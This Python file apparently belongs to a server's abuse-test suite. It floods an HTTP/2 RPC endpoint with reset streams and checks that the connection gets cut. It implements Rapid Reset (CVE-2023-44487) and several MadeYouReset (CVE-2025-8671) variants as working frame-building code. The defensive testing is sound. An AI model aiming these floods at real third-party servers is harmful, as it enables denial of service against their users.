"""Attacks by streams that end before their answer, by a reset of the client or one that the server has to send."""

import time

from abuse_harness import attack
from abuse_http2 import (
    DATA, END_HEADERS, END_STREAM, HEADERS, LARGEST_WINDOW, PRIORITY, Connection, Crowd, field, frame, header_block,
    indexed, literal, message, reset, window_update)

# A client may reset this many calls at once, and then this many a second (RPCServer.Configuration); resets that it
# makes the server send count like its own.
BURST, PER_SECOND = 10_000, 5_000
# The resets that the server may send before it sees that there were too many.
SLACK = 5_000
# The calls that may be in the sockets' buffers when the server has already cut the connection.
BUFFERED = 150_000
SCAN = header_block("Scan")
SCAN_BODY = message(field(3, 100))
GET, GET_BODY = header_block("Get"), message(field(1, b"fresh"))


def storm(context, make_frames, connections=1, by_server=True):
    """Opens calls that are reset, as fast as one thread can, and expects each connection to be cut in time.

    With `by_server` the resets are counted as they arrive, else as they are sent.
    """
    def refill(connection):
        connection.asked += 64
        return b"".join(make_frames(connection.stream()) for _ in range(64))

    def make():
        connection = Connection(context.port, refill=refill, source=context.source)
        connection.asked = 0
        return connection

    crowd = Crowd(make, connections, reopens_per_second=20)
    crowd.run(context.until)
    most, lived = 0, 0
    for connection in [*crowd.members.values(), *crowd.cut]:
        count = connection.resets if by_server else connection.asked
        if count > most:
            most, lived = count, connection.closed_after or time.monotonic() - connection.opened
    context.note(f"at most {most} resets on a connection, in {lived:.1f} s; {crowd.cuts} cuts")
    if most > BURST + PER_SECOND * lived + (SLACK if by_server else BUFFERED):
        context.finding(f"a connection made {most} resets within {lived:.1f} s and was not cut")


@attack("window-overflow", "resets", row=9, seconds=8, short_seconds=1.5)
def window_overflow(context):
    """A WINDOW_UPDATE that overflows the stream's window after each Scan, so that the server resets it."""
    storm(context, lambda stream: (
        frame(HEADERS, END_HEADERS, stream, SCAN) + frame(DATA, END_STREAM, stream, SCAN_BODY)
        + window_update(stream, LARGEST_WINDOW)))


@attack("rapid-reset", "resets", seconds=8, short_seconds=2)
def rapid_reset(context):
    """Each call is reset as soon as it is sent (CVE-2023-44487)."""
    storm(context, lambda stream: (
        frame(HEADERS, END_HEADERS, stream, SCAN) + frame(DATA, END_STREAM, stream, SCAN_BODY) + reset(stream)),
        by_server=False)


@attack("rapid-reset-crowd", "resets", seconds=8)
def rapid_reset_crowd(context):
    """The same on 40 connections, each below the limit for one."""
    storm(context, lambda stream: (
        frame(HEADERS, END_HEADERS, stream, GET) + frame(DATA, END_STREAM, stream, GET_BODY) + reset(stream)),
        40, by_server=False)


@attack("zero-increment", "resets", seconds=8)
def zero_increment(context):
    """WINDOW_UPDATE of 0 on each call: the server must reset it (MadeYouReset, CVE-2025-8671)."""
    storm(context, lambda stream: (
        frame(HEADERS, END_HEADERS, stream, SCAN) + frame(DATA, END_STREAM, stream, SCAN_BODY)
        + window_update(stream, 0)))


@attack("self-priority", "resets", seconds=8)
def self_priority(context):
    """PRIORITY that makes each stream depend on itself (MadeYouReset)."""
    storm(context, lambda stream: (
        frame(HEADERS, END_HEADERS, stream, SCAN) + frame(DATA, END_STREAM, stream, SCAN_BODY)
        + frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10")))


@attack("bad-priority", "resets", seconds=8)
def bad_priority(context):
    """PRIORITY of a wrong length on each stream (MadeYouReset)."""
    storm(context, lambda stream: (
        frame(HEADERS, END_HEADERS, stream, SCAN) + frame(DATA, END_STREAM, stream, SCAN_BODY)
        + frame(PRIORITY, 0, stream, b"1234")))


@attack("data-after-end", "resets", seconds=8)
def data_after_end(context):
    """DATA and HEADERS on streams that are half closed (MadeYouReset)."""
    storm(context, lambda stream: (
        frame(HEADERS, END_HEADERS, stream, SCAN) + frame(DATA, END_STREAM, stream, SCAN_BODY)
        + (frame(DATA, 0, stream, b"more") if stream % 4 == 1
           else frame(HEADERS, END_HEADERS | END_STREAM, stream, GET))))


@attack("malformed-headers", "resets", seconds=8)
def malformed_headers(context):
    """Requests that are malformed, each of which costs the server a reset: upper case, no :path, connection fields."""
    bad = [
        GET + literal("X-Upper", b"v"), indexed(3) + indexed(6) + literal("content-type", "application/grpc"),
        GET + literal("connection", b"close"), GET + literal(":path", b"/again"), GET + literal("x", b"a\x00b"),
        GET + literal("content-length", b"1000000"),
    ]
    storm(context, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, bad[stream // 2 % len(bad)]))
